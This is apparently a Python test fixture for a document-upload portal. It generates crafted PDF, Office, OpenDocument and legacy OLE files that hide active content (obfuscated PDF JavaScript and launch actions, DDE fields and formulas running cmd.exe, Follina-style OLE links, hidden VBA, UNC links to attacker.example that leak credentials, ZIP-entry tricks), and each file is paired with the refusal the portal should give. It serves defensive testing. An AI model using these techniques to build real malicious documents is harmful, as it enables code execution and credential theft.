"""The attack corpus: one crafted file per technique that hides active content from a byte search.

Each builder returns bytes made in the test run (raw PDF syntax or pikepdf, zipfile, the
compound-file writer), so the corpus is reproducible and says in code what each attack is.
`ATTACKS` lists them with the error code and French words of their refusal.
"""

import io
import os
import struct
import warnings
import zipfile
import zlib

import pikepdf

from tests.portal import upload_corpus as corpus
from tests.portal.compound_file import compound_file

MS_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/"

# --- PDF: names written with hex escapes, scripts in compressed object streams, older revisions ---------


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **options)
    return out.getvalue()


def _link_annotation(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A " + action + b" >>"


def pdf_open_action_hex_escaped() -> bytes:
    """/OpenAction running JavaScript, every name written with #xx escapes (/J#53 is /JS)."""
    return corpus.pdf(catalog=b"/#4Fpen#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_additional_action_hex_escaped() -> bytes:
    """/AA on the page (written /#41A): a tracking address fetched as the page opens."""
    return corpus.pdf(page=b"/#41A << /O << /S /URI /URI (https://tracker.example/pixel) >> >>")


def pdf_launch_hex_escaped() -> bytes:
    """A link whose action (/L#61unch) starts cmd.exe."""
    action = b"<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_action_type_by_reference() -> bytes:
    """The action's type is an indirect object: `/S 6 0 R` where object 6 is the name /Launch."""
    action = b"<< /S 6 0 R /F (cmd.exe) >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action), b"/L#61unch"))


def pdf_javascript_in_object_stream() -> bytes:
    """Document-level JavaScript (the /JavaScript name tree), stored in a compressed object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example')"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", script])))
    return _saved(pdf)


def pdf_embedded_file_hex_escaped() -> bytes:
    """An attached program listed in /EmbeddedFiles, names escaped (/#45mbeddedFiles, /#45F)."""
    program = corpus.windows_executable()
    return corpus.pdf(
        catalog=b"/Names << /#45mbeddedFiles << /Names [(budget.exe) 5 0 R] >> >>",
        extra=(
            b"<< /Type /Filespec /F (budget.exe) /#45F << /F 6 0 R >> >>",
            b"<< /Type /#45mbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
        ),
    )


def pdf_file_attachment_annotation() -> bytes:
    """A /FileAttachment annotation on the page, compressed in an object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    attached = pikepdf.Stream(pdf, b"@echo off\r\ncalc.exe\r\n")
    specification = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="lisez-moi.bat", EF=pikepdf.Dictionary(F=attached))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[72, 700, 90, 720], FS=specification
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation]))
    return _saved(pdf)


def pdf_xfa_form() -> bytes:
    """An XFA form: a second, scriptable form model that readers render instead of the page."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    xfa = pikepdf.Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
    return _saved(pdf)


def pdf_submit_form() -> bytes:
    """A link that sends the form's data to another site."""
    action = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_remote_go_to() -> bytes:
    """A link that opens a PDF on a shared folder (the reader's computer logs in to it)."""
    action = b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_rich_media() -> bytes:
    """A /RichMedia annotation (Flash or video with its own scripts)."""
    annotation = b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(annotation,))


def pdf_javascript_in_earlier_revision() -> bytes:
    """Revision 1 opens with JavaScript; revision 2 (an incremental update) replaces the catalog.

    A reader that shows the signed or earlier version of the file runs the script.
    """
    first = pdf_open_action_hex_escaped()
    return corpus.pdf_update(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def pdf_with_user_password() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _saved(pdf, encryption=pikepdf.Encryption(owner="proprietaire", user="secret"))


def pdf_unreadable() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


def pdf_many_revisions(count: int = 17) -> bytes:
    """As many incremental updates as `count`, each rewriting the catalog."""
    data = corpus.pdf()
    for _index in range(count):
        data = corpus.pdf_update(data, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})
    return data


# --- OOXML: relationships, objects, fields, hidden VBA, ZIP tricks --------------------------------


def docx_remote_template() -> bytes:
    """settings.xml attaches a macro template fetched from a web server (template injection)."""
    return corpus.docx_with_template("https://templates.example/normal.dotm")


def docx_shared_folder_template() -> bytes:
    """The same, from a shared folder: the reader's computer sends its Windows credentials."""
    return corpus.docx_with_template("\\\\attacker.example\\share\\normal.dotm")


def docx_linked_ole_object() -> bytes:
    """An OLE object linked to a remote address (the Follina technique: mhtml then ms-msdt)."""
    body = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId1"/></w:object></w:r></w:p>'
    return corpus.ooxml(
        "docx",
        body=body,
        links=(("oleObject", "mhtml:https://x.example/page.html!x-usc:https://x.example/page.html", "External"),),
    )


def docx_remote_frame() -> bytes:
    """A frame loaded from a web server (webSettings.xml's frameset)."""
    return corpus.ooxml(
        "docx",
        links=(("webSettings", "webSettings.xml"),),
        parts={
            "word/webSettings.xml": (
                f"<w:webSettings {corpus.NAMESPACES}/>",
                (("frame", "https://x.example/frame.html", "External"),),
            )
        },
    )


def docx_linked_remote_image() -> bytes:
    """A picture linked, not embedded, from a shared folder: fetched as the document opens."""
    return corpus.ooxml("docx", links=(("image", "\\\\tracker.example\\pixel.png", "External"),))


def docx_embedded_ole_object() -> bytes:
    """An embedded OLE "Package" object wrapping a program."""
    package = compound_file({"\x01Ole10Native": b"\x00\x00\x00\x00" + corpus.windows_executable()})
    return corpus.ooxml(
        "docx",
        links=(("oleObject", "embeddings/oleObject1.bin"),),
        content_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        extra_parts={"word/embeddings/oleObject1.bin": package},
    )


def docx_activex_control() -> bytes:
    """An ActiveX control part (its content type and relationship; no binary needed to be refused)."""
    return corpus.ooxml(
        "docx",
        links=(("control", "activeX/activeX1.xml"),),
        content_types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        extra_parts={
            "word/activeX/activeX1.xml": (
                '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"/>'
            )
        },
    )


def _field_runs(*instructions: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)


BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def docx_ddeauto_field_split() -> bytes:
    """DDEAUTO written over two runs ("DDE" + "AUTO …"), as Word itself may store it."""
    instructions = _field_runs("DDE", 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"')
    return corpus.ooxml("docx", body=f"<w:p>{BEGIN}{instructions}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}</w:p>")


def docx_dde_simple_field() -> bytes:
    return corpus.ooxml(
        "docx",
        body='<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc.exe&quot; A1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    )


def docx_dde_command_from_quote_field() -> bytes:
    """{ {QUOTE 68 68 69 65 85 84 79} "c:\\…\\cmd.exe" }: the command is computed by a nested field."""
    inner = BEGIN + _field_runs("QUOTE 68 68 69 65 85 84 79") + END
    outer = BEGIN + inner + _field_runs(" c:\\\\Windows\\\\System32\\\\cmd.exe ") + END
    return corpus.ooxml("docx", body=f"<w:p>{outer}</w:p>")


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


def xlsx_dde_link() -> bytes:
    """An external link of the DDE kind: Excel asks cmd for "/c calc" as the workbook opens."""
    return corpus.ooxml(
        "xlsx",
        links=(("externalLink", "externalLinks/externalLink1.xml"),),
        extra_parts={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>'
            )
        },
    )


def xlsx_dde_formula() -> bytes:
    """A cell formula =cmd|' /c calc'!A0."""
    return corpus.ooxml(
        "xlsx",
        links=(("worksheet", "worksheets/sheet1.xml"),),
        extra_parts={
            "xl/worksheets/sheet1.xml": SHEET.format(
                rows='<row r="1"><c r="A1"><f>cmd|\' /c calc.exe\'!A0</f></c></row>'
            )
        },
    )


def docx_vba_project_renamed() -> bytes:
    """A VBA project stored as word/media/image1.png, declared through a vbaProject relationship."""
    return corpus.ooxml(
        "docx",
        links=(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/image1.png"),),
        extra_parts={"word/media/image1.png": compound_file(corpus.vba_project())},
    )


def docx_content_types_padded() -> bytes:
    """[Content_Types].xml declares a macro-enabled document after 1.2 MB of comment.

    The padding is random text, so that the part does not compress like a ZIP bomb.
    """
    padding = "<!-- " + os.urandom(900 * 1024).hex()[: 1200 * 1024] + " -->"
    return corpus.ooxml(
        "docx",
        content_types_padding=padding,
        content_types='<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    )


def _with_entries_before(clean: bytes, first: dict[str, bytes]) -> bytes:
    """`clean`'s entries after `first` ones of the same archive; the last entry under a name wins in zipfile."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name: the point here
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in first.items():
                archive.writestr(name, data)
            source = zipfile.ZipFile(io.BytesIO(clean))
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info))
    return out.getvalue()


MACRO_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)


def docx_duplicate_content_types() -> bytes:
    """Two [Content_Types].xml entries: the first declares macros, the last one (zipfile's) is clean."""
    return _with_entries_before(corpus.docx(), {"[Content_Types].xml": MACRO_CONTENT_TYPES})


def docx_case_variant_content_types() -> bytes:
    """[content_types].xml next to [Content_Types].xml: Office compares part names without case."""
    return _with_entries_before(corpus.docx(), {"[content_types].xml": MACRO_CONTENT_TYPES})


def docx_glued_behind_another_archive() -> bytes:
    """A macro-enabled archive first, then a clean docx whose directory ends the file."""
    return corpus.docm() + corpus.docx()


def pptx_program_on_mouse_over() -> bytes:
    """A shape that runs a program when the mouse passes over it (ppaction://program)."""
    slide = (
        f"<p:sld {corpus.NAMESPACES}><p:cSld><p:spTree><p:sp><p:nvSpPr>"
        '<p:cNvPr id="2" name="Titre"><a:hlinkMouseOver r:id="rId1" action="ppaction://program"/></p:cNvPr>'
        "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return corpus.ooxml(
        "pptx",
        body='<p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>',
        links=(("slide", "slides/slide1.xml"),),
        parts={"ppt/slides/slide1.xml": (slide, (("hyperlink", "cmd.exe", "External"),))},
    )


def docx_ribbon_calls_remote_macro() -> bytes:
    """A custom ribbon whose onLoad calls a macro in a workbook on a shared folder."""
    return corpus.ooxml(
        "docx",
        package_links=(
            ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
        ),
        extra_parts={
            "customUI/customUI14.xml": (
                '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                'onLoad="\\\\attacker.example\\share\\outils.xlsm!Charger"/>'
            )
        },
    )


def docx_embedded_macro_workbook() -> bytes:
    """A macro-enabled workbook embedded as an object in the text (opens on a double-click)."""
    return corpus.ooxml(
        "docx",
        links=(("package", "embeddings/Classeur.xlsm"),),
        extra_parts={"word/embeddings/Classeur.xlsm": corpus.xlsm()},
    )


def pptx_chart_workbook_with_macros() -> bytes:
    """A chart whose embedded data workbook carries a VBA project."""
    return corpus.pptx_with_chart(corpus.xlsm())


def docx_alt_chunk() -> bytes:
    """An RTF document that Word converts into the text as it opens (RTF can carry OLE objects)."""
    return corpus.ooxml(
        "docx",
        body='<w:altChunk r:id="rId1"/>',
        links=(("aFChunk", "afchunk.rtf"),),
        content_types='<Default Extension="rtf" ContentType="application/rtf"/>',
        extra_parts={"word/afchunk.rtf": "{\\rtf1 {\\object\\objemb {\\*\\objdata 01050000}}}"},
    )


def docx_online_video_html() -> bytes:
    """An "online video" whose embedded HTML Word renders in a browser frame."""
    video = (
        '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
        'embeddedHtml="&lt;iframe src=&quot;https://x.example/&quot;&gt;&lt;/iframe&gt;" h="480" w="640"/>'
    )
    return corpus.ooxml("docx", body=f"<w:p><w:r>{video}</w:r></w:p>")


# --- OpenDocument: scripts on events and links, objects, DDE, encryption, remote sections --------------


def odt_script_on_open() -> bytes:
    """A script bound to the document's opening, taken from the office suite's own samples."""
    listener = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"/>'
        "</office:event-listeners>"
    )
    return corpus.odf("odt", scripts=listener, body="<office:text/>")


def odt_link_runs_script() -> bytes:
    """A hyperlink that runs a script when followed."""
    link = (
        '<text:p><text:a xlink:type="simple" '
        'xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application">'
        "Voir le budget</text:a></text:p>"
    )
    return corpus.odf("odt", body=f"<office:text>{link}</office:text>")


def odp_program_on_click() -> bytes:
    """A shape that starts a program when clicked (presentation:action="execute")."""
    shape = (
        '<draw:page draw:name="p1"><draw:rect><office:event-listeners><presentation:event-listener '
        'script:event-name="dom:click" presentation:action="execute" '
        'xlink:href="file:///C:/Windows/System32/cmd.exe"/></office:event-listeners></draw:rect></draw:page>'
    )
    return corpus.odf("odp", body=f"<office:presentation>{shape}</office:presentation>")


def odt_inline_script() -> bytes:
    return corpus.odf("odt", scripts='<office:script script:language="ooo:Basic">Shell("calc.exe")</office:script>')


def odt_manifest_script_entry() -> bytes:
    """A Python script declared in the manifest, stored under a name a listing of the archive would not flag."""
    return corpus.odf(
        "odt",
        manifest_entries='<manifest:file-entry manifest:full-path="Scripts/python/budget.py" manifest:media-type=""/>',
        extra_parts={"scripts/python/budget.py": "import os\nos.system('calc.exe')\n"},
    )


def odt_embedded_ole_object() -> bytes:
    """An OLE object (a Word document) stored as "Object 1" and shown in the text."""
    return corpus.odf(
        "odt",
        body='<office:text><text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p></office:text>',
        manifest_entries='<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>',
        extra_parts={"Object 1": corpus.doc()},
    )


def ods_dde_formula() -> bytes:
    """A cell computed by LibreOffice's DDE function."""
    cell = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc.exe&quot;;&quot;&quot;)"/>'
    body = f'<office:spreadsheet><table:table table:name="Budget"><table:table-row>{cell}</table:table-row></table:table></office:spreadsheet>'
    return corpus.odf("ods", body=body)


def odt_encrypted() -> bytes:
    """A password-protected document: the manifest says how content.xml is encrypted."""
    return corpus.odf(
        "odt",
        manifest_entries=(
            '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml">'
            '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
            "</manifest:file-entry>"
        ),
    )


def odt_remote_section() -> bytes:
    """A section whose text is loaded from a web server as the document opens."""
    section = (
        '<text:section text:name="Annexe"><text:section-source xlink:type="simple" '
        'xlink:href="https://x.example/annexe.odt"/></text:section>'
    )
    return corpus.odf("odt", body=f"<office:text>{section}</office:text>")


# --- OLE2 (doc, xls, ppt): VBA in PowerPoint records, Excel 4 macros, objects, DDE, encryption ---------


def _powerpoint_storage(inner: bytes) -> bytes:
    """An ExOleObjStg record (type 0x1011, instance 1: compressed) holding a compound file."""
    compressed = struct.pack("<I", len(inner)) + zlib.compress(inner)
    return struct.pack("<HHI", 0x0010, 0x1011, len(compressed)) + compressed


def ppt_with_vba_in_records() -> bytes:
    """PowerPoint 97-2003 keeps its VBA project compressed inside the document stream."""
    return corpus.ppt(document=_powerpoint_storage(compound_file(corpus.vba_project())))


def ppt_with_embedded_object() -> bytes:
    package = compound_file({"\x01Ole10Native": b"\x00\x00\x00\x00" + corpus.windows_executable()})
    return corpus.ppt(document=_powerpoint_storage(package))


def xls_with_excel4_macro_sheet() -> bytes:
    """A BoundSheet8 record whose sheet type is 1: an Excel 4 (XLM) macro sheet."""
    name = b"Macro1"
    return corpus.xls(corpus.biff_record(0x85, struct.pack("<IBBBB", 0, 0, 1, len(name), 0) + name))


def _supporting_link(tab_count: int, path: str) -> bytes:
    """A SupBook record: sheet count, path length, then the path (8-bit characters)."""
    return corpus.biff_record(0x01AE, struct.pack("<HHB", tab_count, len(path), 0) + path.encode("latin-1"))


def xls_with_dde_link() -> bytes:
    """A SupBook of the DDE kind (no sheets): Excel asks cmd for its data."""
    return corpus.xls(_supporting_link(0, "cmd"))


def xls_with_remote_workbook_link() -> bytes:
    """A link to a workbook on a shared folder (\\x01@ starts a UNC path in a VirtualPath)."""
    return corpus.xls(_supporting_link(1, "\x01@attacker.example\x03partage\x03budget.xls"))


def doc_with_ddeauto_field() -> bytes:
    return corpus.doc(text=b'\x13 DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" \x14\x15')


def doc_with_packaged_program() -> bytes:
    """An embedded "Package" object in Word's ObjectPool, wrapping a program."""
    native = b"\x00\x00\x00\x00" + corpus.windows_executable()
    return corpus.doc(extra={"ObjectPool/_1234567890/\x01Ole10Native": native, "ObjectPool/_1234567890/\x01Ole": b""})


def xls_with_embedded_object() -> bytes:
    """An embedded object in one of Excel's MBD storages."""
    return corpus.xls(extra={"MBD0001A2B3/\x01CompObj": b"\x01\x00\xfe\xff", "MBD0001A2B3/CONTENTS": b"x"})


def doc_encrypted_legacy() -> bytes:
    """Word 97-2003 encryption: the FIB's fEncrypted flag."""
    return compound_file({"WordDocument": corpus.word_stream(encrypted=True), "1Table": b""})


# (file name, builder, code, words of the French reason)
ATTACKS = [
    ("ouverture.pdf", pdf_open_action_hex_escaped, "pdf_active_content", "du JavaScript"),
    ("page.pdf", pdf_additional_action_hex_escaped, "pdf_active_content", "à l'ouverture ou sur un événement"),
    ("lien.pdf", pdf_launch_hex_escaped, "pdf_active_content", "lance un programme"),
    ("reference.pdf", pdf_action_type_by_reference, "pdf_active_content", "lance un programme"),
    ("script.pdf", pdf_javascript_in_object_stream, "pdf_active_content", "du JavaScript"),
    ("joint.pdf", pdf_embedded_file_hex_escaped, "pdf_active_content", "des fichiers joints"),
    ("annotation.pdf", pdf_file_attachment_annotation, "pdf_active_content", "des fichiers joints"),
    ("formulaire.pdf", pdf_xfa_form, "pdf_active_content", "un formulaire XFA"),
    ("envoi.pdf", pdf_submit_form, "pdf_active_content", "envoie des données"),
    ("partage.pdf", pdf_remote_go_to, "pdf_active_content", "ouvre un autre fichier"),
    ("media.pdf", pdf_rich_media, "pdf_active_content", "multimédia"),
    ("revision.pdf", pdf_javascript_in_earlier_revision, "pdf_active_content", "du JavaScript"),
    ("protege.pdf", pdf_with_user_password, "encrypted", "protégé par un mot de passe"),
    ("illisible.pdf", pdf_unreadable, "format", "Le PDF est illisible ou endommagé"),
    ("revisions.pdf", pdf_many_revisions, "pdf_revisions", "plus de 16 fois"),
    ("modele.docx", docx_remote_template, "external_link", "autre serveur"),
    ("modele-partage.docx", docx_shared_folder_template, "external_link", "autre serveur"),
    ("objet-lie.docx", docx_linked_ole_object, "embedded_object", "objet incorporé ou lié"),
    ("cadre.docx", docx_remote_frame, "external_link", "autre serveur"),
    ("image-liee.docx", docx_linked_remote_image, "external_link", "autre serveur"),
    ("objet.docx", docx_embedded_ole_object, "embedded_object", "objet OLE"),
    ("activex.docx", docx_activex_control, "embedded_object", "contrôle ActiveX"),
    ("champ.docx", docx_ddeauto_field_split, "dde", "champ ou une formule DDE"),
    ("champ-simple.docx", docx_dde_simple_field, "dde", "champ ou une formule DDE"),
    ("champ-calcule.docx", docx_dde_command_from_quote_field, "dde", "champ ou une formule DDE"),
    ("liaison.xlsx", xlsx_dde_link, "dde", "champ ou une formule DDE"),
    ("formule.xlsx", xlsx_dde_formula, "dde", "champ ou une formule DDE"),
    ("image.docx", docx_vba_project_renamed, "macro", "contient des macros"),
    ("types.docx", docx_content_types_padded, "macro", "contient des macros"),
    ("double.docx", docx_duplicate_content_types, "format", "endommagé"),
    ("casse.docx", docx_case_variant_content_types, "format", "endommagé"),
    ("colle.docx", docx_glued_behind_another_archive, "format", "endommagé"),
    ("survol.pptx", pptx_program_on_mouse_over, "active_content", "lance un programme"),
    ("ruban.docx", docx_ribbon_calls_remote_macro, "active_content", "ruban personnalisé"),
    ("classeur.docx", docx_embedded_macro_workbook, "embedded_object", "document dans le document"),
    ("graphique.pptx", pptx_chart_workbook_with_macros, "macro", "contient des macros"),
    ("fragment.docx", docx_alt_chunk, "embedded_object", "objet incorporé"),
    ("video.docx", docx_online_video_html, "active_content", "lance un programme ou un script"),
    ("ouverture.odt", odt_script_on_open, "active_content", "lance un programme ou un script"),
    ("lien.odt", odt_link_runs_script, "active_content", "lance un programme ou un script"),
    ("clic.odp", odp_program_on_click, "active_content", "lance un programme ou un script"),
    ("script.odt", odt_inline_script, "macro", "contient des macros"),
    ("manifeste.odt", odt_manifest_script_entry, "macro", "contient des macros"),
    ("objet.odt", odt_embedded_ole_object, "embedded_object", "objet OLE"),
    ("dde.ods", ods_dde_formula, "dde", "champ ou une formule DDE"),
    ("chiffre.odt", odt_encrypted, "encrypted", "protégé par un mot de passe"),
    ("section.odt", odt_remote_section, "external_link", "autre serveur"),
    ("macros.ppt", ppt_with_vba_in_records, "macro", "contient des macros"),
    ("objet.ppt", ppt_with_embedded_object, "embedded_object", "objet OLE"),
    ("xlm.xls", xls_with_excel4_macro_sheet, "macro", "contient des macros"),
    ("dde.xls", xls_with_dde_link, "dde", "champ ou une formule DDE"),
    ("lien.xls", xls_with_remote_workbook_link, "external_link", "autre serveur"),
    ("champ.doc", doc_with_ddeauto_field, "dde", "champ ou une formule DDE"),
    ("paquet.doc", doc_with_packaged_program, "embedded_object", "objet OLE"),
    ("objet.xls", xls_with_embedded_object, "embedded_object", "objet OLE"),
    ("chiffre.doc", doc_encrypted_legacy, "encrypted", "protégé par un mot de passe"),
]
